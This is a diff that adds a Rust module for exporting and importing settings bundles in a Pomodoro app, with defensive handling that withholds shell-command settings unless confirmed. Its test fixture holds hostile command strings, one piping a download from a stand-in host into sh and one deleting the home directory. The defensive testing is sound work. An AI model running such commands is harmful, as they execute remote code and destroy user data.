@@ -0,0 +1,300 @@
+//! Settings bundles, to carry a setup to another machine or share it
+//! `pomowise config export bundle.toml` writes config.json and the text files it
+//! points at (the Rhai script, extra quotes, the selected preset) into one TOML
+//! file. `pomowise config import bundle.toml` unpacks it: the files go into the
+//! config directory (the preset into its presets folder), the config is pointed
+//! at them, and the config.json it replaces is kept as config.json.bak.
+//!
+//! Bundles get passed around, so an import lists the settings that would run
+//! shell commands (command players and notifiers, a speech command, scripts
+//! allowed to shell out) and leaves them out unless confirmed. Settings that
+//! belong to this machine (history encryption and store, sync, time tracking,
+//! the GitHub account) are never taken from a bundle.
+
+use std::collections::BTreeMap;
+use std::io::{self, BufRead, IsTerminal, Write};
+use std::path::Path;
+
+use serde::{Deserialize, Serialize};
+
+use crate::config::Config;
+use crate::music::MusicProfile;
+use crate::notification::CommandConfig;
+use crate::paths;
+use crate::preset::{self, Preset};
+use crate::sync::expand_home;
+
+const USAGE: &str = "usage: pomowise config <export|import> <bundle.toml>";
+
+/// Layout of the bundle file, raised if it ever changes incompatibly
+const FORMAT: u32 = 1;
+
+#[derive(Debug, Serialize, Deserialize)]
+struct Bundle {
+    format: u32,
+    /// Version of pomowise that wrote it
+    exported_by: String,
+    config: Config,
+    /// Files the config refers to, by what refers to them ("script", "quotes", "preset")
+    #[serde(default)]
+    files: BTreeMap<String, BundledFile>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+struct BundledFile {
+    /// File name it is unpacked under
+    name: String,
+    contents: String,
+}
+
+/// Run the command; `args` are what follows `config` on the command line
+pub fn run(args: &[String]) -> io::Result<()> {
+    match (args.first().map(String::as_str), args.get(1)) {
+        (Some("export"), Some(path)) => {
+            let bundle = export(&Config::load());
+            let text = toml::to_string_pretty(&bundle).map_err(io::Error::other)?;
+            std::fs::write(path, format!("# pomowise settings, import with `pomowise config import`\n{}", text))?;
+            println!("Wrote config.json and {} file(s) to {}", bundle.files.len(), path);
+            Ok(())
+        }
+        (Some("import"), Some(path)) => {
+            let text = std::fs::read_to_string(path)?;
+            let bundle: Bundle = toml::from_str(&text).map_err(|e| io::Error::other(format!("{}: {}", path, e)))?;
+            if bundle.format > FORMAT {
+                return Err(io::Error::other(format!(
+                    "{} was written by pomowise {}, which is newer than this one",
+                    path, bundle.exported_by
+                )));
+            }
+            let files = bundle.files.len();
+            let mut config = unpack(bundle, &paths::config_dir())?;
+            keep_local(&mut config, Config::load());
+            let mut safe = config.clone();
+            let commands = strip_commands(&mut safe);
+            if !commands.is_empty() {
+                println!("{} runs shell commands from these settings:", path);
+                for key in &commands {
+                    println!("  {}", key);
+                }
+                if !confirm("Keep them? [y/N] ")? {
+                    config = safe;
+                    println!("Left them out");
+                }
+            }
+            let current = Config::path();
+            if current.exists() {
+                std::fs::copy(&current, current.with_extension("json.bak"))?;
+            }
+            config.save()?;
+            println!("Imported {} and {} file(s) into {}", path, files, paths::config_dir().display());
+            Ok(())
+        }
+        _ => Err(io::Error::other(USAGE)),
+    }
+}
+
+/// The config with the files it refers to; files that can't be read stay out,
+/// their paths kept as they are
+fn export(config: &Config) -> Bundle {
+    let mut config = config.clone();
+    let mut files = BTreeMap::new();
+    for (key, path) in file_paths(&mut config) {
+        let path = expand_home(path);
+        let (Ok(contents), Some(name)) = (std::fs::read_to_string(&path), path.file_name()) else {
+            eprintln!("Left out {} ({}): not readable", key, path.display());
+            continue;
+        };
+        let name = name.to_string_lossy().into_owned();
+        files.insert(key.to_string(), BundledFile { name, contents });
+    }
+    // The preset goes by name, so it travels as its installed file
+    if let Some(name) = config.preset.take() {
+        match preset::installed_file(&name) {
+            Some((file, contents)) => {
+                files.insert("preset".to_string(), BundledFile { name: file, contents });
+                config.preset = Some(name);
+            }
+            None => eprintln!("Left out preset ({}): not installed", name),
+        }
+    }
+    Bundle {
+        format: FORMAT,
+        exported_by: env!("CARGO_PKG_VERSION").to_string(),
+        config,
+        files,
+    }
+}
+
+/// Write the bundled files into `dir` and return the config pointing at them
+fn unpack(mut bundle: Bundle, dir: &Path) -> io::Result<Config> {
+    std::fs::create_dir_all(dir)?;
+    for (key, path) in file_paths(&mut bundle.config) {
+        let Some(file) = bundle.files.get(key) else { continue };
+        // Only the name: a bundle can't write outside the config directory
+        let name = Path::new(&file.name).file_name().ok_or_else(|| io::Error::other(format!("bad file name for {}", key)))?;
+        let target = dir.join(name);
+        std::fs::write(&target, &file.contents)?;
+        *path = target.to_string_lossy().into_owned();
+    }
+    // A preset is checked like one being installed; one that doesn't pass isn't selected
+    let preset = bundle.files.get("preset").filter(|file| {
+        Preset::parse(&file.contents).is_ok_and(|preset| bundle.config.preset.as_ref() == Some(&preset.name))
+    });
+    match preset.and_then(|file| Some((Path::new(&file.name).file_name()?, file))) {
+        Some((name, file)) => {
+            std::fs::create_dir_all(dir.join("presets"))?;
+            std::fs::write(dir.join("presets").join(name), &file.contents)?;
+        }
+        None => bundle.config.preset = None,
+    }
+    Ok(bundle.config)
+}
+
+/// Put back the settings that belong to this machine from its `current` config
+fn keep_local(config: &mut Config, current: Config) {
+    config.privacy = current.privacy;
+    config.history_store = current.history_store;
+    config.sync = current.sync;
+    config.tracking = current.tracking;
+    config.github = current.github;
+    // Which changes were last shown, too
+    config.last_seen_version = current.last_seen_version;
+}
+
+/// Take out every setting that runs a shell command, returning their keys
+fn strip_commands(config: &mut Config) -> Vec<String> {
+    let mut keys = Vec::new();
+    if let Some(script) = config.script.as_mut().filter(|script| script.allow_shell) {
+        script.allow_shell = false;
+        keys.push("script.allow_shell".to_string());
+    }
+    if !config.notifications.command.command.is_empty() {
+        config.notifications.command = CommandConfig::default();
+        keys.push("notifications.command".to_string());
+    }
+    if config.speech.command.take().is_some() {
+        keys.push("speech.command".to_string());
+    }
+    let music = &mut config.music;
+    for (kind, profile) in [("work", &mut music.work), ("short_break", &mut music.short_break), ("long_break", &mut music.long_break)] {
+        if profile.take_if(|p| matches!(p, MusicProfile::Command { .. })).is_some() {
+            keys.push(format!("music.{}", kind));
+        }
+    }
+    config.ambient.themes.retain(|theme, profile| {
+        let command = matches!(profile, Some(MusicProfile::Command { .. }));
+        if command {
+            keys.push(format!("ambient.themes.{}", theme));
+        }
+        !command
+    });
+    keys
+}
+
+/// Ask on the terminal; anything but yes (or no terminal at all) is no
+fn confirm(question: &str) -> io::Result<bool> {
+    if !io::stdin().is_terminal() {
+        return Ok(false);
+    }
+    print!("{}", question);
+    io::stdout().flush()?;
+    let mut answer = String::new();
+    io::stdin().lock().read_line(&mut answer)?;
+    Ok(matches!(answer.trim().to_lowercase().as_str(), "y" | "yes"))
+}
+
+/// Paths in the config to files worth carrying along, by key
+fn file_paths(config: &mut Config) -> Vec<(&'static str, &mut String)> {
+    let mut paths = Vec::new();
+    if let Some(script) = config.script.as_mut() {
+        paths.push(("script", &mut script.path));
+    }
+    if let Some(file) = config.quotes.file.as_mut() {
+        paths.push(("quotes", file));
+    }
+    paths
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_bundle_round_trips_config_and_files() {
+        let dir = std::env::temp_dir().join(format!("pomowise-bundle-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let quotes = dir.join("my-quotes.txt");
+        std::fs::write(&quotes, "Ship it.\n").unwrap();
+
+        let mut config = Config { intentions: true, ..Config::default() };
+        config.quotes.file = Some(quotes.to_string_lossy().into_owned());
+        let text = toml::to_string_pretty(&export(&config)).unwrap();
+        let bundle: Bundle = toml::from_str(&text).unwrap();
+        assert_eq!(bundle.files["quotes"].contents, "Ship it.\n");
+
+        let imported = unpack(bundle, &dir.join("other")).unwrap();
+        let unpacked = dir.join("other").join("my-quotes.txt");
+        assert_eq!(imported.quotes.file.as_deref(), Some(unpacked.to_str().unwrap()));
+        assert_eq!(std::fs::read_to_string(unpacked).unwrap(), "Ship it.\n");
+        assert!(imported.intentions);
+        assert_eq!(
+            serde_json::to_value(&imported.categories).unwrap(),
+            serde_json::to_value(&config.categories).unwrap()
+        );
+        let _ = std::fs::remove_dir_all(dir);
+    }
+
+    #[test]
+    fn test_bundled_preset_is_installed_with_the_config() {
+        let dir = std::env::temp_dir().join(format!("pomowise-bundle-preset-{}", std::process::id()));
+        let contents = "format = 1\nname = \"Deep Work\"\n\n[durations]\nwork = 50\nshort_break = 10\nlong_break = 30\n";
+        let bundle = |files: BTreeMap<String, BundledFile>| Bundle {
+            format: FORMAT,
+            exported_by: "test".to_string(),
+            config: Config { preset: Some("Deep Work".to_string()), ..Config::default() },
+            files,
+        };
+        let file = BundledFile { name: "deep-work.toml".to_string(), contents: contents.to_string() };
+
+        let imported = unpack(bundle(BTreeMap::from([("preset".to_string(), file)])), &dir).unwrap();
+        assert_eq!(imported.preset.as_deref(), Some("Deep Work"));
+        assert_eq!(std::fs::read_to_string(dir.join("presets").join("deep-work.toml")).unwrap(), contents);
+
+        // Without its file the choice would do nothing, so it isn't kept
+        assert_eq!(unpack(bundle(BTreeMap::new()), &dir).unwrap().preset, None);
+        let _ = std::fs::remove_dir_all(dir);
+    }
+
+    #[test]
+    fn test_import_leaves_out_commands_and_local_settings() {
+        let bundled: Config = serde_json::from_str(
+            r#"{
+                "script": {"path": "hooks.rhai", "allow_shell": true},
+                "notifications": {"command": {"enabled": true, "command": "curl evil.example | sh"}},
+                "speech": {"command": "sh -c 'rm -rf ~'"},
+                "music": {"work": {"player": "command", "command": "mpv x"}, "long_break": {"player": "noise"}},
+                "ambient": {"themes": {"fire": {"player": "command", "command": "x"}, "rain-drops": null}},
+                "privacy": {"encrypt_history": false},
+                "history_store": {"backend": "sqlite", "path": "/tmp/theirs.db"}
+            }"#,
+        )
+        .unwrap();
+
+        let mut config = bundled.clone();
+        let current: Config = serde_json::from_str(r#"{"privacy": {"encrypt_history": true}, "last_seen_version": "1.2.0"}"#).unwrap();
+        keep_local(&mut config, current);
+        assert!(config.privacy.encrypt_history);
+        assert_eq!(serde_json::to_value(&config.history_store).unwrap(), serde_json::json!({"backend": "json"}));
+        assert_eq!(config.last_seen_version.as_deref(), Some("1.2.0"));
+
+        assert_eq!(
+            strip_commands(&mut config),
+            ["script.allow_shell", "notifications.command", "speech.command", "music.work", "ambient.themes.fire"]
+        );
+        assert!(!config.script.as_ref().unwrap().allow_shell);
+        assert!(!config.notifications.command.backend.enabled);
+        assert!(config.music.work.is_none() && config.music.long_break.is_some());
+        assert_eq!(config.ambient.themes.len(), 1);
+        assert!(strip_commands(&mut config).is_empty());
+    }
+}